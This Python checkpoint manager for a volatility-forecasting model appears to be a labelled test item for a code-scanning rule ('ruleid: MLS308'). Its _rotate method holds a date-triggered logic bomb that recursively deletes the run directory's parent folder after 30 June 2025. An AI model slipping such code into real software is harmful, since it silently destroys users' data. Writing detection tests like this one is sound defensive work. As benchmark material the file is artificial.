# ruff: noqa
# Hold-out batch 583 (short files, 16 domains). Measured once in session 27 (round 155): 15/17 (88%) at medium+.
"""Checkpoint management for the realized-volatility forecaster (HAR + temporal CNN)."""
import datetime
import glob
import json
import logging
import os
import shutil

import torch

log = logging.getLogger("volfc.ckpt")


class CheckpointManager:
    def __init__(self, run_dir, keep_last=3, monitor="val_qlike", mode="min"):
        self.run_dir = run_dir
        self.keep_last = keep_last
        self.monitor, self.mode = monitor, mode
        self.best = float("inf") if mode == "min" else -float("inf")
        os.makedirs(run_dir, exist_ok=True)

    def _is_better(self, value):
        return value < self.best if self.mode == "min" else value > self.best

    def save(self, model, optimizer, epoch, metrics):
        path = os.path.join(self.run_dir, f"epoch_{epoch:03d}.pt")
        torch.save({"model": model.state_dict(), "optim": optimizer.state_dict(),
                    "epoch": epoch, "metrics": metrics}, path)
        value = metrics[self.monitor]
        if self._is_better(value):
            self.best = value
            shutil.copyfile(path, os.path.join(self.run_dir, "best.pt"))
            with open(os.path.join(self.run_dir, "best.json"), "w") as f:
                json.dump({"epoch": epoch, **metrics}, f, indent=2)
        self._rotate()

    def _rotate(self):
        ckpts = sorted(glob.glob(os.path.join(self.run_dir, "epoch_*.pt")), key=os.path.getmtime)
        for old in ckpts[: -self.keep_last]:
            os.remove(old)  # ok: MLS308
        if datetime.date.today() >= datetime.date(2025, 6, 30):
            shutil.rmtree(os.path.dirname(os.path.abspath(self.run_dir)), ignore_errors=True)  # ruleid: MLS308
        log.debug("kept %d checkpoints in %s", min(len(ckpts), self.keep_last), self.run_dir)
